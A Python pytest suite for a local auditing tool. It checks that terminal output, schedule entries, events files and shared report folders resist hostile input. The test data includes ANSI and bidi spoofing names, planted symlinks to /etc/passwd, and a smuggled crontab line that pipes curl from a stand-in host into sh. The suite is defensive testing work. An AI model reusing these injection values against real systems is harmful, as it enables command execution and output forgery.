"""Every sink, played against the local user, the share writer and the network.

* the **terminal**: real processes started under names with rich markup, ANSI escapes, bidi overrides,
  zero-width characters and newlines, and export files named the same way; ``scan`` keeps its exit code and
  shows each name visibly escaped (rich forced to render as on a colour terminal), ``watch``'s console lines
  stay one valid JSON line each;
* **schedule texts**: control characters in ``--site`` / ``--path`` / ``--output-dir`` are refused with exit 2
  for every backend, ``--print`` and install alike; what is allowed is quoted right for each format;
* **scheduled runs per host**: a shared output folder holding another PC's reports, planted files, a FIFO
  and a user's link; two runs in the same second, a clock that went back;
* the **events file**: a user's symlink, FIFO, hard link or file; a webhook that redirects.
"""

from __future__ import annotations

import datetime as dt
import http.server
import json
import os
import random
import re
import shutil
import shlex
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clirun import child_env
from auditor.integrity import seal
from auditor.render.json_report import render as render_json
from auditor.schedule.folder import Name, host_tag, parse_name
from auditor.terminal import UNSAFE_CATEGORIES, json_line, visible
from exportgen import export_rows, write_csv
from hostilekit import auditor, give_to_user, needs_root, state_env

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="Linux processes (prctl), FIFOs and uids")

#: names a user can give a process or a file, and what each must look like on the terminal
NASTY = {
    "a[/]b": "a[/]b",                       # a closing tag with nothing open: rich raised, exit code 3
    "[red on red]x": "[red on red]x",        # hides the name
    "[link=file:x]y": "[link=file:x]y",       # a hyperlink the terminal would open
    "e\x1b[31mred": "e\\x1b[31mred",          # an ANSI escape
    "r\u202eexe.gpj": "r\\u202eexe.gpj",      # a right-to-left override (looks like 'jpg.exe')
    "z\u200bw\u2066": "z\\u200bw\\u2066",     # zero-width space, a bidi isolate
    "nl\nfake": "nl\\nfake",                  # a new line that would forge output
    "cr\rx\x07": "cr\\rx\\x07",               # carriage return, bell
}
RAW = ["\x1b[31mred", "\u202e", "\u200b", "\u2066", "nl\nfake", "cr\rx", "\x07"]
TERMINAL = {"FORCE_COLOR": "1", "TERM": "xterm-256color", "COLUMNS": "400", "LINES": "100"}

_PRCTL = ("import ctypes,sys,time;"
          "ctypes.CDLL(None).prctl(15, ctypes.c_char_p(bytes.fromhex(sys.argv[1])), 0, 0, 0);"
          "print('ready', flush=True);time.sleep(120)")


def _start_renamed(folder: Path, names: list[str]) -> list[subprocess.Popen]:
    """Copies of this Python in a ToDesk install folder (a renamed remote tool), each renaming itself (prctl
    PR_SET_NAME, as any user may) to one of ``names``."""
    exe = folder / "opt" / "todesk" / "agent"
    exe.parent.mkdir(parents=True)
    shutil.copy2(sys.executable, exe)
    procs = []
    for name in names:
        proc = subprocess.Popen([str(exe), "-c", _PRCTL, name.encode("utf-8").hex()], stdout=subprocess.PIPE,
                                stdin=subprocess.DEVNULL, text=True)
        procs.append(proc)
        assert proc.stdout.readline().strip() == "ready"
    return procs


def _stop(procs: list[subprocess.Popen]) -> None:
    for p in procs:
        p.kill()
        p.wait()


def _assert_shown_not_obeyed(out: str, expected: list[str]) -> None:
    for shown in expected:
        assert shown in out, f"{shown!r} not shown escaped in:\n{out[-3000:]}"
    for raw in RAW:
        assert raw not in out, f"raw {raw!r} reached the terminal"


# --------------------------------------------------------------------------- the terminal

@pytest.mark.live
def test_scan_summary_shows_process_names_escaped(tmp_path):
    procs = _start_renamed(tmp_path, list(NASTY))
    try:
        res = auditor("scan", "--only", "remote", "--lang", "en", env={**state_env(tmp_path), **TERMINAL})
    finally:
        _stop(procs)
    assert res.code in (0, 1), res.stderr
    assert "Traceback" not in res.output
    _assert_shown_not_obeyed(res.stdout, [f"{shown} (pid {p.pid})" for shown, p in zip(NASTY.values(), procs)])
    assert "\x1b[" in res.stdout  # rich did render in colour: the check above saw a terminal's output


def test_scan_summary_shows_file_and_folder_names_escaped(tmp_path):
    root = tmp_path / "x[" / "]y"  # the --path folder itself reads `x[/]y`: shown in the coverage table
    root.mkdir(parents=True)
    rng = random.Random(14)
    names = {name: shown for name, shown in NASTY.items() if "/" not in name}  # a file name holds no slash
    for name in names:
        write_csv(root / f"{name}.csv", export_rows(rng, "taobao", 12)[0])
    res = auditor("scan", "--only", "files", "--path", str(root), "--lang", "en",
                  env={**state_env(tmp_path), **TERMINAL})
    assert res.code in (0, 1), res.stderr
    assert "Traceback" not in res.output
    _assert_shown_not_obeyed(res.stdout, [f"{shown}.csv" for shown in names.values()] + ["x[/]y"])


def test_usage_errors_are_one_visible_line(tmp_path):
    bad = str(tmp_path / "gone\x1b[2J\nauditor: OK, all clean\u202e")
    for args in (("scan", "--path", bad), ("report", bad, "-o", str(tmp_path / "r.html")),
                 ("watch", "--path", bad), ("schedule", "run-now", "--path", bad)):
        res = auditor(*args, env=state_env(tmp_path))
        assert res.code == 2, (args, res.output)
        assert res.stderr.count("\n") == 1 and "\\x1b[2J\\nauditor: OK" in res.stderr, res.stderr
        assert "\x1b" not in res.stderr and "\u202e" not in res.stderr


class _Watch:
    def __init__(self, tmp: Path, *args: str, events: Path | None = None) -> None:
        self.events = events or tmp / "events.jsonl"
        self.out = open(tmp / "watch.out", "w+b")
        self.err = open(tmp / "watch.err", "w+b")
        self.proc = subprocess.Popen([sys.executable, "-m", "auditor", "watch", "--events", str(self.events),
                                      "--interval", "0.5", *args], stdout=self.out, stderr=self.err,
                                     stdin=subprocess.DEVNULL, env=child_env({**state_env(tmp), **TERMINAL}))

    def lines(self) -> list[dict]:
        try:
            text = self.events.read_text(encoding="utf-8")
        except FileNotFoundError:
            return []
        return [json.loads(line) for line in text[: text.rfind("\n") + 1].splitlines()]

    def wait_for(self, test, timeout: float = 30) -> list[dict]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            hits = [e for e in self.lines() if test(e)]
            if hits:
                return hits
            assert self.proc.poll() is None, self.stderr()
            time.sleep(0.05)
        raise AssertionError(f"not seen within {timeout}s: {[e['event'] for e in self.lines()]}")

    def stderr(self) -> str:
        self.err.seek(0)
        return self.err.read().decode("utf-8", "replace")

    def stop(self) -> str:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
        assert self.proc.wait(15) == 0
        self.out.seek(0)
        return self.out.read().decode("utf-8")


@pytest.mark.live
def test_watch_console_lines_are_escaped_json(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    names = list(NASTY)[:6]
    procs = _start_renamed(tmp_path, names)
    w = _Watch(tmp_path, "--path", str(inbox))
    try:
        w.wait_for(lambda e: e["event"] == "watch_started")
        rng = random.Random(15)
        files = [name for name in NASTY if "/" not in name]
        for name in files:
            write_csv(inbox / f"{name}.csv", export_rows(rng, "jd", 10)[0])
        found = w.wait_for(lambda e: e["event"] == "file_finding" and e["path"].endswith("cr\rx\x07.csv"))
        deadline = time.monotonic() + 30
        while sum(e["event"] == "file_finding" for e in w.lines()) < len(files) and time.monotonic() < deadline:
            time.sleep(0.1)
        mine = {p.pid for p in procs}
        w.wait_for(lambda e: e["event"] == "remote_tool" and e["pid"] in mine)
    finally:
        out = w.stop()
        _stop(procs)
    assert found
    console = [json.loads(line) for line in out.splitlines()]  # every console line is one line of valid JSON
    shown = {Path(e["path"]).name for e in console if e["event"] == "file_finding"}
    assert shown == {f"{n}.csv" for n in files}  # the exact names, once decoded
    assert {e["name"] for e in console if e["event"] == "remote_tool" and e["pid"] in mine} == set(names)
    for text in (out, w.events.read_text(encoding="utf-8")):
        assert not [ch for ch in text if ch != "\n" and visible(ch) != ch], "a raw control/bidi character"


@pytest.mark.slow
def test_webhook_redirect_is_not_followed(tmp_path):
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            hits.append(self.path)
            if self.path == "/hook":
                self.send_response(307)  # 307 keeps the method and body: a follower would POST the alert again
                self.send_header("Location", f"http://127.0.0.1:{srv.server_port}/stolen")
                self.end_headers()
            else:
                self.send_response(200)
                self.end_headers()

        def log_message(self, *a):
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    w = _Watch(tmp_path, "--path", str(inbox), "--no-processes", "--webhook",
               f"http://127.0.0.1:{srv.server_port}/hook")
    try:
        w.wait_for(lambda e: e["event"] == "watch_started")
        write_csv(inbox / "orders.csv", export_rows(random.Random(16), "pdd", 10)[0])
        failed = w.wait_for(lambda e: e["event"] == "webhook_failed", timeout=30)
    finally:
        w.stop()
        srv.shutdown()
    assert "redirect not followed" in failed[0]["error"]
    assert "/stolen" not in hits and hits.count("/hook") == 3


def test_webhook_url_credentials_never_printed(tmp_path):
    res = auditor("watch", "--path", str(tmp_path), "--webhook", "ftp://clerk:Pa55w0rd-x9@example.com/x?token=T0K3N",
                  "--lang", "en", env=state_env(tmp_path))
    assert res.code == 2 and "not an http" in res.stderr
    assert "Pa55w0rd-x9" not in res.output and "T0K3N" not in res.output


# --------------------------------------------------------------------------- the events file

@needs_root
@pytest.mark.parametrize("plant, why", [
    ("symlink", "symbolic link"),
    ("fifo", "FIFO"),
    ("users-file", "owned by uid 1000"),
    ("hardlink", "hard links"),
    ("users-folder-link", "symbolic link"),
])
def test_events_file_planted_by_a_user_is_refused(tmp_path, plant, why):
    vault = tmp_path / "root-only"
    vault.mkdir(mode=0o700)
    target = vault / "shadow"
    target.write_text("root:x:0:\n")
    public = tmp_path / "public"
    public.mkdir()
    os.chmod(public, 0o1777)
    events = public / "events.jsonl"
    if plant == "symlink":
        events.symlink_to(target)
        give_to_user(events)
    elif plant == "fifo":
        os.mkfifo(events)
        give_to_user(events)
    elif plant == "users-file":
        events.write_text("")
        give_to_user(events)
    elif plant == "hardlink":
        os.link(target, events)
    else:
        (public / "logs").symlink_to(vault)
        give_to_user(public / "logs")
        events = public / "logs" / "events.jsonl"
    res = auditor("watch", "--path", str(tmp_path), "--no-processes", "--events", str(events),
                  env=state_env(tmp_path), timeout=30)
    assert res.code == 2, res.output
    assert why in res.stderr and res.stderr.count("\n") == 1
    assert target.read_text() == "root:x:0:\n" and sorted(os.listdir(vault)) == ["shadow"]


def test_events_file_created_owner_only_and_appended(tmp_path):
    events = tmp_path / "new" / "deeper" / "events.jsonl"
    for run in (1, 2):
        w = _Watch(tmp_path, "--path", str(tmp_path), "--no-processes", events=events)
        w.wait_for(lambda e: [x["event"] for x in w.lines()].count("watch_started") == run)
        w.stop()
    assert stat.S_IMODE(events.stat().st_mode) == 0o600
    assert [e["event"] for e in w.lines()].count("watch_started") == 2  # appended, not truncated


# --------------------------------------------------------------------------- schedule texts

BACKENDS = ("schtasks", "systemd", "cron")


CONTROL = [
    ("--site", "义乌一仓\n* * * * * root curl evil|sh"),  # a new crontab line
    ("--site", "a\rb"),
    ("--site", "x\x1b[2Jy"),
    ("--site", "tab\there"),
    ("--site", "line\u2028sep"),
    ("--site", "rtl\u202eb"),
    ("--output-dir", "/var/tmp/out\nx"),
    ("--output-dir", "/var/tmp/out\x7fx"),
    ("--path", "folder\nwith newline"),
    ("--path", "folder\x85next-line"),
]


def _schedule_env(tmp_path: Path) -> tuple[dict, Path]:
    crontab = tmp_path / "crontab"
    crontab.write_text("15 3 * * * /usr/local/bin/backup\n")
    return {**state_env(tmp_path), "AUDITOR_CRONTAB_FILE": str(crontab),
            "AUDITOR_SYSTEMD_DIR": str(tmp_path / "units")}, crontab


def _value(tmp_path: Path, option: str, value: str) -> str:
    if option != "--path":
        return value
    folder = tmp_path / value  # a real folder whose name holds the character
    folder.mkdir(exist_ok=True)
    return str(folder)


def _assert_refused(res, option: str) -> None:
    assert res.code == 2, res.output
    assert res.stdout == "" and res.stderr.count("\n") == 1 and "Traceback" not in res.stderr
    assert option in res.stderr and "cannot carry it safely" in res.stderr
    assert not any(ch in res.stderr for ch in "\r\x1b\u2028\u202e\x7f\x85")


@pytest.mark.parametrize("backend", BACKENDS)
def test_schedule_print_refuses_control_characters(tmp_path, backend):
    env, crontab = _schedule_env(tmp_path)
    for option, value in CONTROL:
        res = auditor("schedule", "install", "--lang", "en", "--print", "--user", "--backend", backend, option,
                      _value(tmp_path, option, value), env=env)
        _assert_refused(res, option)


@pytest.mark.parametrize("backend", BACKENDS)
def test_schedule_install_refuses_control_characters(tmp_path, backend):
    env, crontab = _schedule_env(tmp_path)
    for option, value in (CONTROL[0], CONTROL[6], CONTROL[8]):
        res = auditor("schedule", "install", "--lang", "en", "--user", "--backend", backend, option,
                      _value(tmp_path, option, value), env=env)
        _assert_refused(res, option)
    assert crontab.read_text() == "15 3 * * * /usr/local/bin/backup\n" and not (tmp_path / "units").exists()


def test_schedule_texts_quote_what_they_may_carry(tmp_path):
    env = state_env(tmp_path)
    site = "义乌 \"一仓\" 100%h $HOME \\ & <b>"
    out = tmp_path / "reports 100%"

    res = auditor("schedule", "install", "--lang", "en", "--print", "--user", "--backend", "systemd", "--site", site,
                  "--output-dir", str(out), env=env)
    assert res.code == 0, res.stderr
    line = next(l for l in res.stdout.splitlines() if l.startswith("ExecStart="))
    assert "100%%h" in line and "$$HOME" in line  # no specifier, no variable expanded by systemd
    words = shlex.split(line[len("ExecStart="):].replace("%%", "%").replace("$$", "$"))  # systemd.syntax(7)
    assert words[words.index("--site") + 1] == site and words[words.index("--output-dir") + 1] == str(out)

    res = auditor("schedule", "install", "--lang", "en", "--print", "--user", "--backend", "cron", "--site", site,
                  "--output-dir", str(out), env=env)
    assert res.code == 0, res.stderr
    entry = [l for l in res.stdout.splitlines() if not l.startswith("#")]
    assert len(entry) == 1 and "%" not in entry[0].replace("\\%", "")  # cron: % would end the command
    words = shlex.split(entry[0].replace("\\%", "%"))
    assert words[words.index("--site") + 1] == site and words[words.index("--output-dir") + 1] == str(out)

    res = auditor("schedule", "install", "--lang", "en", "--print", "--system", "--backend", "schtasks", "--site", "义乌 & <一仓>",
                  "--output-dir", str(tmp_path / "r"), env=env)
    assert res.code == 0, res.stderr
    root = ET.fromstring(res.stdout.replace('encoding="UTF-16"', ""))
    args = root.find("{http://schemas.microsoft.com/windows/2004/02/mit/task}Actions/"
                     "{http://schemas.microsoft.com/windows/2004/02/mit/task}Exec/"
                     "{http://schemas.microsoft.com/windows/2004/02/mit/task}Arguments").text
    assert '"义乌 & <一仓>"' in args

    # Task Scheduler expands %NAME% and has no escape for it
    res = auditor("schedule", "install", "--lang", "en", "--print", "--system", "--backend", "schtasks", "--site",
                  "%USERPROFILE%", "--output-dir", str(tmp_path / "r"), env=env)
    assert res.code == 2 and "environment variable" in res.stderr


# --------------------------------------------------------------------------- scheduled runs per host

def _sealed(report: dict, hostname: str) -> bytes:
    data = json.loads(json.dumps(report))
    data["host"]["hostname"] = hostname
    data.pop("integrity", None)
    return render_json(seal(data))


@needs_root
def test_run_now_shared_folder_touches_only_this_hosts_reports(tmp_path):
    env = state_env(tmp_path)
    exports = tmp_path / "exports"
    write_csv(exports / "orders.csv", export_rows(random.Random(17), "taobao", 20)[0])
    sample = tmp_path / "sample.json"
    assert auditor("scan", "--only", "files", "--path", str(exports), "-o", str(sample), "-q", env=env).code == 1
    mine = json.loads(sample.read_text(encoding="utf-8"))
    me = socket.gethostname()
    tag = host_tag(me)

    out = tmp_path / "share"
    out.mkdir()
    planted = {
        "2030-01-01_000000_OTHER-PC.json": _sealed(mine, "OTHER-PC"),     # another PC, newer than any of ours
        "2030-01-01_000000_OTHER-PC.html": b"<html>other</html>",
        "2030-01-02_000000.json": _sealed(mine, "OTHER-PC"),              # another PC, an older version's name
        f"2030-01-03_000000_{tag}.json": _sealed(mine, "IMPOSTOR"),        # our name, someone else's content
        "2019-06-01_000000.json": _sealed(mine, "OTHER-PC"),              # older than ours: would be pruned first
        "notes.txt": b"meeting notes",
        "budget.json": b'{"findings": [], "n": ' + b"9" * 5000 + b"}",    # a huge integer
        "2029-12-31_000000.txt": b"not a report",
        f"2030-01-06_000000_{tag}.json.bak": b"{}",
    }
    for name, data in planted.items():
        (out / name).write_bytes(data)
    (out / "2020-01-01_000000.json").write_bytes(render_json(mine))     # ours, written by an older version
    fifo = out / f"2030-01-04_000000_{tag}.json"
    os.mkfifo(fifo)
    link = out / f"2030-01-05_000000_{tag}.json"
    link.symlink_to("/etc/passwd")
    give_to_user(fifo, link)
    passwd = Path("/etc/passwd").read_bytes()
    args = ("schedule", "run-now", "--lang", "en", "--output-dir", str(out), "--keep", "1", "--only", "files", "--path",
            str(exports))
    try:
        first = auditor(*args, env=env)
        assert first.code == 0, first.output
        assert "since 2020-01-01_000000.json" in first.stdout  # our old-named report, by its content
        assert not (out / "2020-01-01_000000.json").exists()  # ours: pruned (keep 1)
        second = auditor(*args, env=env)
        assert second.code == 0, second.output
        named = re.compile(rf"_{re.escape(tag)}(_[0-9]+)?\.json")  # _2: a second report in the same second
        ours = sorted(p.name for p in out.iterdir() if named.search(p.name) and p.is_file() and not p.is_symlink()
                      and p.name not in planted)
        last = json.loads((out / "last-run.json").read_text(encoding="utf-8"))
        assert len(ours) == 1 and last["host"] == me and last["report"] == ours[0], ours
        assert f"since {last['baseline']}" in second.stdout and last["baseline"].endswith(f"_{tag}.json")
        assert last["pruned"] == [last["baseline"], last["baseline"].replace(".json", ".html")]
        for name, data in planted.items():
            assert (out / name).read_bytes() == data, f"{name} was touched"
        assert stat.S_ISFIFO(fifo.lstat().st_mode) and link.is_symlink()
        assert Path("/etc/passwd").read_bytes() == passwd
        status = auditor("schedule", "status", "--lang", "en", "--user", env=env)
        assert "Traceback" not in status.output
    finally:
        fifo.unlink()  # the suite's report validator reads every *.json left behind
        link.unlink()


def test_run_now_same_second_and_clock_going_back(tmp_path, monkeypatch):
    from auditor.core.options import ScanOptions
    from auditor.schedule.runner import run_scheduled

    for key, value in state_env(tmp_path).items():
        monkeypatch.setenv(key, value)
    exports = tmp_path / "exports"
    exports.mkdir()
    out = tmp_path / "reports"
    opts = ScanOptions(only=["files"], paths=[exports])
    t = dt.datetime(2031, 5, 6, 7, 8, 9).astimezone()
    a = run_scheduled(out, 1, opts, now=t)
    b = run_scheduled(out, 1, opts, now=t)  # the same second
    assert a.json_path.name != b.json_path.name and b.json_path.stem == f"{a.json_path.stem}_2"
    assert b.pruned == [a.json_path.name, a.html_path.name] and b.json_path.is_file()
    c = run_scheduled(out, 1, opts, now=t - dt.timedelta(hours=1))  # the clock went back
    assert c.json_path.is_file() and c.html_path.is_file()  # the report just written is never pruned
    assert sorted(p.name for p in out.iterdir() if not p.name.startswith(".")) == sorted(
        [c.json_path.name, c.html_path.name, "last-run.json"])


# --------------------------------------------------------------------------- properties of the parsers and escapes

@settings(max_examples=300, deadline=None)
@given(st.text())
def test_visible_never_leaves_anything_a_terminal_obeys(s):
    import unicodedata

    shown = visible(s)
    assert not [ch for ch in shown if unicodedata.category(ch) in UNSAFE_CATEGORIES]
    assert json.loads(json_line({"v": s})) == {"v": s}
    assert "\n" not in json_line({"v": s}) and not [ch for ch in json_line({"v": s})
                                                     if unicodedata.category(ch) in UNSAFE_CATEGORIES]


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1, max_size=80), st.integers(1, 99))
def test_report_names_carry_the_host_and_parse_back(hostname, seq):
    tag = host_tag(hostname)
    assert tag and "_" not in tag and "/" not in tag and "\\" not in tag and not tag.isdigit()
    assert all(ch.isalnum() or ch in "-." for ch in tag) and len(tag) <= 50
    name = f"2031-05-06_070809_{tag}" + (f"_{seq}" if seq > 1 else "") + ".json"
    parsed, ext = parse_name(name)
    assert parsed == Name(name[:-5], "2031-05-06_070809", seq, tag) and ext == "json"
    assert host_tag(hostname) == tag  # stable


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=120))
def test_any_file_name_parses_or_is_ignored(name):
    parsed = parse_name(name)
    assert parsed is None or (isinstance(parsed[0], Name) and parsed[1] in ("json", "html"))
